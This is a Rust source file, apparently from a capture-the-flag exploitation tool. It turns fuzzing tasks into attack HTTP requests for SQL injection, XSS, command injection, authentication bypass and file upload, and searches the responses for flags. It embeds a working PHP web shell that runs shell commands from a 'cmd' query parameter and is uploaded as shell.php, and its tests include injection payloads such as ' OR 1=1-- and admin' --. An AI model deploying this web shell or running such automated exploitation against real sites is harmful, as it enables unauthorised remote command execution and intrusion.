use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use tracing::{debug, info, warn};

use crate::errors::FlaghuntError;
use crate::http::{HttpClient, HttpRequest, HttpResponse, RequestBody, UploadFile};
use crate::models::{ExploitAttempt, ExploitStatus, FuzzTask};
use super::decision::VulnType;
use super::detectors::DetectorSet;
use super::flag::FlagMatcher;

pub const DEFAULT_EXPLOIT_TIMEOUT: Duration = Duration::from_secs(60);

const PHP_PROBE: &str =
    "<?php echo 'File uploaded successfully'; if(isset($_GET['cmd'])) { system($_GET['cmd']); } ?>";
const JSP_PROBE: &str = "<% out.println(\"File uploaded successfully\"); %>";

/// File part sent for an upload task. The payload names the file.
pub fn upload_file_for(payload: &str) -> UploadFile {
    let lower = payload.to_lowercase();
    let (filename, content, content_type) = if lower.ends_with(".php") {
        (payload.to_string(), PHP_PROBE, "application/x-php")
    } else if lower.ends_with(".jsp") {
        (payload.to_string(), JSP_PROBE, "text/plain")
    } else {
        ("test.txt".to_string(), "Test file content", "text/plain")
    };
    UploadFile {
        field: "file".to_string(),
        filename,
        content: content.to_string(),
        content_type: content_type.to_string(),
    }
}

/// Turns one [`FuzzTask`] into one HTTP request and records the outcome.
pub struct ExploitExecutor {
    detectors: DetectorSet,
    flags: FlagMatcher,
    timeout: Duration,
}

impl ExploitExecutor {
    pub fn new(flag_format: &str) -> Self {
        Self {
            detectors: DetectorSet::default(),
            flags: FlagMatcher::new(flag_format),
            timeout: DEFAULT_EXPLOIT_TIMEOUT,
        }
    }

    pub fn with_detectors(mut self, detectors: DetectorSet) -> Self {
        self.detectors = detectors;
        self
    }

    pub fn with_timeout(mut self, timeout: Duration) -> Self {
        self.timeout = timeout;
        self
    }

    /// Build the request for a task according to its executor family.
    pub fn build_request(&self, task: &FuzzTask) -> HttpRequest {
        let family = VulnType::from_tag(&task.vulnerability_type);
        let request = match family {
            VulnType::AuthBypass => {
                let method = if task.method.is_empty() { "POST" } else { task.method.as_str() };
                HttpRequest::new(method, &task.location)
                    .with_params(credential_params(task))
                    .without_redirects()
            }
            VulnType::FileUpload => HttpRequest::new("POST", &task.location).with_body(RequestBody::Multipart {
                fields: BTreeMap::new(),
                file: upload_file_for(&task.payload),
            }),
            VulnType::Generic => {
                let params = if task.parameters.is_empty() {
                    BTreeMap::from([("test".to_string(), task.payload.clone())])
                } else {
                    task.parameters.clone()
                };
                HttpRequest::new(method_or_get(task), &task.location).with_params(params)
            }
            VulnType::SqlInjection | VulnType::Xss | VulnType::CommandInjection => {
                HttpRequest::new(method_or_get(task), &task.location)
                    .with_params(substituted_params(task, family.default_parameter()))
            }
        };
        request.with_timeout(self.timeout)
    }

    /// Dispatch one task. Transport failures are recorded on the attempt,
    /// never returned.
    pub async fn execute(&self, http: &dyn HttpClient, task: FuzzTask) -> ExploitAttempt {
        let family = VulnType::from_tag(&task.vulnerability_type);
        let request = self.build_request(&task);
        let mut attempt = ExploitAttempt::pending(task);
        attempt.status = ExploitStatus::InProgress;
        attempt.request = request.snapshot();

        debug!(family = %family, task = %attempt.task.label(), "Dispatching exploit task");
        let started = Instant::now();
        let result = http.send(request).await;
        attempt.duration_ms = started.elapsed().as_millis() as u64;

        match result {
            Ok(response) => {
                attempt.response = response.snapshot();
                attempt.indicator_hit = self.detectors.detect(family, &attempt.task, &response);
                attempt.flag = self.search_flag(&response);
                attempt.status = if attempt.flag.is_some() {
                    ExploitStatus::Success
                } else {
                    ExploitStatus::Failed
                };
                if let Some(flag) = &attempt.flag {
                    info!(flag = %flag, task = %attempt.task.label(), "Flag extracted from response");
                }
            }
            Err(e) => {
                warn!(family = %family, error = %e, "Exploit request failed");
                attempt.status = match e {
                    FlaghuntError::Timeout(_) => ExploitStatus::Timeout,
                    _ => ExploitStatus::Failed,
                };
                attempt.error = Some(e.to_string());
            }
        }
        attempt
    }

    /// Body first, then header values.
    fn search_flag(&self, response: &HttpResponse) -> Option<String> {
        self.flags
            .find(&response.body)
            .or_else(|| response.headers.values().find_map(|v| self.flags.find(v)))
    }
}

fn method_or_get(task: &FuzzTask) -> &str {
    if task.method.is_empty() {
        "GET"
    } else {
        task.method.as_str()
    }
}

fn substituted_params(task: &FuzzTask, fallback: &str) -> BTreeMap<String, String> {
    if task.parameters.is_empty() {
        return BTreeMap::from([(fallback.to_string(), task.payload.clone())]);
    }
    task.parameters
        .keys()
        .map(|k| (k.clone(), task.payload.clone()))
        .collect()
}

/// Existing credential-like fields receive the payload; without any, a
/// conventional login form is assumed.
fn credential_params(task: &FuzzTask) -> BTreeMap<String, String> {
    if task.parameters.is_empty() {
        return BTreeMap::from([
            ("username".to_string(), task.payload.clone()),
            ("password".to_string(), "password".to_string()),
            ("login".to_string(), "Login".to_string()),
        ]);
    }
    task.parameters
        .iter()
        .map(|(name, value)| {
            let lower = name.to_lowercase();
            let v = if lower.contains("user") || lower.contains("email") || lower == "id" {
                task.payload.clone()
            } else if lower.contains("pass") {
                "password".to_string()
            } else {
                value.clone()
            };
            (name.clone(), v)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::testing::ScriptedHttp;

    fn task(ty: &str, method: &str, payload: &str, params: &[(&str, &str)]) -> FuzzTask {
        FuzzTask {
            vulnerability_type: ty.into(),
            location: "http://target/login".into(),
            attack_vector: "vector".into(),
            payload: payload.into(),
            confidence: 0.7,
            method: method.into(),
            parameters: params.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
        }
    }

    #[test]
    fn test_sql_substitutes_every_parameter() {
        let exec = ExploitExecutor::new("flag{*}");
        let req = exec.build_request(&task("sql_injection", "GET", "' OR 1=1--", &[("id", "1"), ("sort", "asc")]));
        assert_eq!(req.query.get("id").map(String::as_str), Some("' OR 1=1--"));
        assert_eq!(req.query.get("sort").map(String::as_str), Some("' OR 1=1--"));
        assert_eq!(req.timeout, Some(DEFAULT_EXPLOIT_TIMEOUT));
    }

    #[test]
    fn test_default_parameters_per_family() {
        let exec = ExploitExecutor::new("flag{*}");
        let sql = exec.build_request(&task("sqli", "GET", "p", &[]));
        assert!(sql.query.contains_key("id"));
        let xss = exec.build_request(&task("xss", "GET", "p", &[]));
        assert!(xss.query.contains_key("q"));
        let cmd = exec.build_request(&task("command_injection", "GET", "p", &[]));
        assert!(cmd.query.contains_key("cmd"));
        let generic = exec.build_request(&task("lfi", "GET", "p", &[]));
        assert!(generic.query.contains_key("test"));
    }

    #[test]
    fn test_auth_bypass_posts_credentials_without_redirects() {
        let exec = ExploitExecutor::new("flag{*}");
        let req = exec.build_request(&task("authentication_bypass", "", "admin' --", &[]));
        assert_eq!(req.method, "POST");
        assert!(!req.follow_redirects);
        match &req.body {
            RequestBody::Form(form) => {
                assert_eq!(form["username"], "admin' --");
                assert_eq!(form["password"], "password");
                assert_eq!(form["login"], "Login");
            }
            other => panic!("unexpected body {:?}", other),
        }
    }

    #[test]
    fn test_upload_file_contents() {
        assert!(upload_file_for("shell.php").content.contains("system($_GET['cmd'])"));
        assert_eq!(upload_file_for("webshell.jsp").filename, "webshell.jsp");
        let other = upload_file_for("image.png");
        assert_eq!(other.filename, "test.txt");
        assert_eq!(other.content, "Test file content");
        assert_eq!(other.field, "file");
    }

    #[tokio::test]
    async fn test_execute_extracts_flag() {
        let http = ScriptedHttp::pages(vec![(
            "http://target/login",
            HttpResponse::new(200, "Welcome admin! flag{sqli_w1n}"),
        )]);
        let exec = ExploitExecutor::new("flag{*}");
        let attempt = exec
            .execute(&http, task("sql_injection", "POST", "admin' --", &[("username", "")]))
            .await;
        assert_eq!(attempt.status, ExploitStatus::Success);
        assert_eq!(attempt.flag.as_deref(), Some("flag{sqli_w1n}"));
        assert!(attempt.indicator_hit);
        assert_eq!(attempt.response_status(), Some(200));
        assert_eq!(attempt.request["method"], "POST");
    }

    #[tokio::test]
    async fn test_execute_finds_flag_in_header() {
        let http = ScriptedHttp::new(|_| Ok(HttpResponse::new(200, "nothing").with_header("X-Flag", "flag{hdr}")));
        let exec = ExploitExecutor::new("flag{*}");
        let attempt = exec.execute(&http, task("generic", "GET", "x", &[])).await;
        assert_eq!(attempt.flag.as_deref(), Some("flag{hdr}"));
    }

    #[tokio::test]
    async fn test_network_error_recorded_as_failed_attempt() {
        let http = ScriptedHttp::new(|_| Err(FlaghuntError::Network("connection refused".into())));
        let exec = ExploitExecutor::new("flag{*}");
        let attempt = exec.execute(&http, task("xss", "GET", "<b>", &[])).await;
        assert_eq!(attempt.status, ExploitStatus::Failed);
        assert!(attempt.error.as_deref().unwrap_or_default().contains("connection refused"));
        assert!(attempt.flag.is_none());
    }

    struct Never;

    impl crate::queue::SuccessDetector for Never {
        fn name(&self) -> &str {
            "never"
        }

        fn detect(&self, _task: &FuzzTask, _response: &HttpResponse) -> bool {
            false
        }
    }

    #[tokio::test]
    async fn test_replaced_detector_is_used() {
        let http = ScriptedHttp::new(|_| Ok(HttpResponse::new(200, "Welcome to the dashboard")));
        let detectors = DetectorSet::default().with_detector(VulnType::SqlInjection, std::sync::Arc::new(Never));
        let exec = ExploitExecutor::new("flag{*}").with_detectors(detectors);
        let attempt = exec.execute(&http, task("sql_injection", "GET", "'", &[])).await;
        assert!(!attempt.indicator_hit);
        assert_eq!(attempt.status, ExploitStatus::Failed);
    }

    #[tokio::test]
    async fn test_timeout_status() {
        let http = ScriptedHttp::new(|_| Err(FlaghuntError::Timeout("deadline".into())));
        let exec = ExploitExecutor::new("flag{*}");
        let attempt = exec.execute(&http, task("xss", "GET", "<b>", &[])).await;
        assert_eq!(attempt.status, ExploitStatus::Timeout);
    }
}
